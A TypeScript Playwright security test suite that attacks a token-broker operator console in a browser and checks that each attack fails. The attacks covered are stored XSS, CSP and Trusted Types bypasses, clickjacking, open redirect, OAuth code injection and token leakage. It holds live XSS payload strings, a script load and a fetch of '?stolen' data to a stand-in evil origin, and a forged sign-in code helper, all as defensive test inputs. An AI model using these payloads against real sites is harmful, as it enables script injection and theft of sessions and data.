/** Each attack on the console, tried in a real browser, and what became of it. */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, suite, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Browser, Request } from 'playwright-core';
import { VIEW_NAMES } from '../../src/console/route.ts';
import { callerToken, deliver, exchange, ownEvent, startLocal } from '../local/local-mode.ts';
import { launchBrowser, newPage, noBrowser, signIn } from './browser.ts';

const MARKUP = '"><img src=x onerror="pwned=1"><script>pwned=2</script>{{7*7}}<svg/onload=pwned=3>';
const SETTLED_MS = 1_200;

suite('attacks on the console', { skip: noBrowser }, () => {
  let local: Awaited<ReturnType<typeof startLocal>>;
  let browser: Browser;
  let evil: Server;
  let evilOrigin: string;
  let evilPage = '';
  before(async () => {
    local = await startLocal();
    browser = await launchBrowser();
    evil = createServer((_, response) => {
      response.setHeader('content-type', 'text/html');
      response.end(`<!doctype html><title>evil</title>${evilPage}`);
    });
    evil.listen(0, '127.0.0.1');
    await once(evil, 'listening');
    // Another site than the broker's for cookies, and another origin.
    evilOrigin = `http://localhost:${(evil.address() as AddressInfo).port}`;
  });
  after(async () => {
    await browser?.close();
    evil?.close();
    await local?.[Symbol.asyncDispose]();
  });
  const as = async (name: string, path: string, body: object) =>
    fetch(`${local.description.broker}/operator/${path}`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${await callerToken(local.description, name)}`,
        'content-type': 'application/json',
      },
      body: JSON.stringify(body),
    });

  test('stored XSS: markup in each field that somebody can write is shown as text, in every view', async (t) => {
    const { description } = local;
    const { broker } = description;
    const scope = { kind: 'user', tenantId: description.entra.tenantId, objectId: crypto.randomUUID() };
    assert.equal((await as('operator', 'revocations', { scope, block: true, reason: MARKUP })).status, 200);
    assert.equal((await as('operator', 'accounts/speech/pause', { reason: MARKUP })).status, 200);
    assert.equal((await as('operator', 'accounts/chat/rotate', { reason: MARKUP })).status, 202);
    await exchange(broker, await callerToken(description, 'captions'), MARKUP);
    await exchange(broker, MARKUP, 'speech');
    await deliver(broker, [
      { ...ownEvent('RevocationRequested', { scope: { kind: MARKUP }, reason: MARKUP }), subject: MARKUP },
      { ...ownEvent('RevocationRequested', { scope, reason: MARKUP }), id: MARKUP },
      ownEvent(MARKUP, { [MARKUP]: MARKUP }),
    ]);
    const { page, complaints } = await newPage(browser, { userAgent: MARKUP });
    await signIn(page, description.console, 'operator');
    const shown: string[] = [];
    const places = [...VIEW_NAMES.map((view) => `#/${view}`), '#/accounts?account=speech'];
    for (const hostile of [
      'q',
      'find',
      'account',
      'cell',
      'correlation',
      'resource',
      'kind',
      'by',
      'day',
      'event',
      'key',
    ])
      places.push(...VIEW_NAMES.map((view) => `#/${view}?${new URLSearchParams({ [hostile]: MARKUP })}`));
    for (const [at, place] of places.entries()) {
      await page.goto(`${description.console}${place}`);
      await sleep(at < 8 ? SETTLED_MS : 60);
      if ((await page.locator('body').innerText()).includes('onerror="pwned=1"')) shown.push(place);
      assert.equal(await page.evaluate('typeof pwned'), 'undefined', place);
      assert.equal(await page.locator('img, main script, svg[onload]').count(), 0, place);
    }
    t.diagnostic(`${places.length} places, the text seen in ${shown.join(', ')}`.slice(0, 400));
    for (const view of ['#/accounts?account=speech', '#/revocations', '#/events', '#/record'])
      assert.ok(shown.includes(view), `${view} does not show what was written`);
    assert.deepEqual(
      complaints.filter((complaint) => !/4\d\d/.test(complaint)),
      [],
    );
    await page.context().close();
  });

  test('even markup that a mistake made would not run: Trusted Types and the policy refuse it', async () => {
    const { page, complaints } = await newPage(browser);
    await signIn(page, local.description.console, 'auditor');
    for (const mistake of [
      `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="pwned=1">')`,
      `document.querySelector('main').innerHTML = '<b>x</b>'`,
      `Object.assign(document.createElement('script'), { src: '${evilOrigin}/x.js' })`,
      `trustedTypes.createPolicy('p', { createHTML: (text) => text })`,
    ])
      await assert.rejects(
        page.evaluate(mistake),
        /TrustedHTML|TrustedScriptURL|createPolicy|disallowed/,
        mistake,
      );
    await page.evaluate(
      `try { setTimeout('pwned=1') } catch { complain('violation of text as a program'); }`,
    );
    await page.evaluate(`document.body.append(Object.assign(document.createElement('a'), { id: 'a', textContent: 'x' }));
      document.getElementById('a').setAttribute('style', 'color:red');`);
    await page.evaluate(`fetch('${evilOrigin}/?stolen').catch(() => undefined)`);
    await sleep(SETTLED_MS);
    assert.ok(complaints.some((complaint) => complaint.includes('violation of connect-src')));
    assert.ok(complaints.some((complaint) => /violation of (text|.*script)/.test(complaint)));
    assert.equal(await page.evaluate('typeof pwned'), 'undefined');
    await page.context().close();
  });

  test('clickjacking: the console and the sign-in are shown in no frame', async () => {
    evilPage = `<iframe name="one" src="${local.description.console}"></iframe>
      <iframe name="two" src="${local.description.entra.browserAuthority}/${local.description.entra.tenantId}/oauth2/v2.0/authorize"></iframe>`;
    const { page } = await newPage(browser);
    await page.goto(evilOrigin);
    await sleep(SETTLED_MS);
    for (const name of ['one', 'two'])
      assert.equal(page.frame({ name })?.url(), 'chrome-error://chromewebdata/');
    await page.context().close();
  });

  test('open redirect: no address leads anywhere else, before or after sign-in', async () => {
    const { description } = local;
    for (const place of [
      `#${evilOrigin}`,
      `?redirect_uri=${evilOrigin}#//${evilOrigin}`,
      `#/\\${evilOrigin}`,
    ]) {
      const { page } = await newPage(browser);
      await signIn(page, description.console, 'auditor', place);
      assert.equal(new URL(page.url()).origin, new URL(description.broker).origin, place);
      await page.context().close();
    }
    const asked = new URLSearchParams({
      client_id: description.entra.consoleClientId,
      redirect_uri: evilOrigin,
    });
    const answer = await fetch(
      `${description.entra.browserAuthority}/${description.entra.tenantId}/oauth2/v2.0/authorize?${asked}`,
      { redirect: 'manual' },
    );
    assert.deepEqual([answer.status, answer.headers.get('location')], [400, null]);
  });

  test('code injection and state mix-up: a code that this tab did not ask for is redeemed by nobody', async () => {
    const { description } = local;
    const redeemed: string[] = [];
    const { page } = await newPage(browser);
    page.on('request', (request) => {
      if (request.url().endsWith('/oauth2/v2.0/token')) redeemed.push(request.postData() ?? '');
    });
    // Nothing was asked for.
    await page.goto(`${description.console}#code=theirs&state=theirs`);
    await page.getByText('does not belong to a sign-in').waitFor();
    assert.equal(new URL(page.url()).hash, '');
    // Something was, with another state; what was kept of it is used up.
    await page.evaluate(`sessionStorage.setItem('sign-in', JSON.stringify(
      { state: 'mine', verifier: 'v'.repeat(43), place: '', silent: false }))`);
    await page.goto(`${description.console}?again#code=theirs&state=theirs`);
    await page.getByText('does not belong to a sign-in').waitFor();
    assert.equal(await page.evaluate('sessionStorage.length'), 0);
    assert.deepEqual(redeemed, []);
    // The state leaked, and the code is an attacker's own: its challenge is of another verifier.
    const theirs = await ownCode();
    await page.evaluate(`sessionStorage.setItem('sign-in', JSON.stringify(
      { state: 'mine', verifier: 'v'.repeat(43), place: '', silent: false }))`);
    await page.goto(`${description.console}?third#code=${theirs}&state=mine`);
    await page.getByText('AADSTS501481').waitFor();
    assert.equal(redeemed.length, 1);
    await page.context().close();
  });

  /** A code of the attacker's own sign-in, as he would inject it. */
  async function ownCode(): Promise<string> {
    const { description } = local;
    const { browserAuthority, tenantId, consoleClientId } = description.entra;
    const asked = new URLSearchParams({
      client_id: consoleClientId,
      response_type: 'code',
      response_mode: 'fragment',
      redirect_uri: description.console,
      scope: 'api://ai-token-broker/Broker.Operate',
      code_challenge: 'x'.repeat(43),
      code_challenge_method: 'S256',
    });
    const answer = await fetch(`${browserAuthority}/${tenantId}/oauth2/v2.0/authorize?${asked}`, {
      method: 'POST',
      redirect: 'manual',
      headers: { origin: browserAuthority },
      body: new URLSearchParams({ person: 'operator' }),
    });
    const { hash } = new URL(answer.headers.get('location') ?? '');
    return new URLSearchParams(hash.slice(1)).get('code') ?? assert.fail('no code');
  }

  test('leakage: no token or code in a URL, a referrer, the history, storage, a cookie, the console or an error', async () => {
    const requests: Request[] = [];
    const said: string[] = [];
    const { page } = await newPage(browser);
    page.on('request', (request) => requests.push(request));
    page.on('console', (message) => said.push(message.text()));
    await signIn(page, local.description.console, 'operator');
    for (const view of VIEW_NAMES) await page.goto(`${local.description.console}#/${view}`);
    await page.goto(`${local.description.console}#/explain?correlation=${'0'.repeat(32)}`);
    await sleep(SETTLED_MS);
    const tokens = requests.flatMap(
      (request) => request.headers()['authorization']?.slice('Bearer '.length) ?? [],
    );
    assert.ok(tokens.length > 3);
    const posted = requests
      .map((request) => new URLSearchParams(request.postData() ?? '').get('code'))
      .filter(Boolean);
    assert.ok(posted.length > 0);
    const secrets = [...new Set([...tokens, ...posted])].filter((text) => typeof text === 'string');
    const places = await page.evaluate(
      '(() => [location.href, document.referrer, JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage }), document.cookie, document.body.innerText].join())()',
    );
    for (const secret of secrets) {
      assert.ok(!String(places).includes(secret));
      assert.ok(!said.join().includes(secret));
      for (const request of requests) assert.ok(!request.url().includes(secret), request.url());
    }
    for (const request of requests) {
      const { referer } = await request.allHeaders();
      // The sign-in page sends its own form to itself.
      const { browserAuthority } = local.description.entra;
      const isWithinEntra = [request.url(), referer].every((url) => url?.startsWith(browserAuthority));
      assert.ok(!referer || isWithinEntra, `${request.url()}: ${referer}`);
    }
    await page.goBack().catch(() => undefined);
    assert.ok(!page.url().includes('code='));
    await page.context().close();
  });

  test('cross-origin: another site reads nothing, opens no window that it can reach, and its forms act on nothing', async () => {
    const { broker, console: url } = local.description;
    evilPage = '';
    const { page } = await newPage(browser);
    await signIn(page, url, 'operator');
    const other = await page.context().newPage();
    await other.goto(evilOrigin);
    for (const path of ['/console', '/operator/accounts', '/operator/policy'])
      assert.equal(
        await other.evaluate(
          `fetch('${broker}${path}', { credentials: 'include' }).then(() => 'read', () => 'refused')`,
        ),
        'refused',
        path,
      );
    const opened = `(async () => { const w = open('${url}'); await new Promise((r) => setTimeout(r, ${SETTLED_MS}));
      try { return String(w.closed || w.location.href); } catch { return 'out of reach'; } })()`;
    assert.match(String(await other.evaluate(opened)), /^(true|out of reach)$/);
    const posted = other.waitForResponse(`${broker}/operator/revocations`);
    await other.evaluate(`(() => { const f = document.createElement('form'); f.method = 'post';
      f.action = '${broker}/operator/revocations'; document.body.append(f); f.submit(); })()`);
    assert.equal((await posted).status(), 401);
    await page.context().close();
  });
});
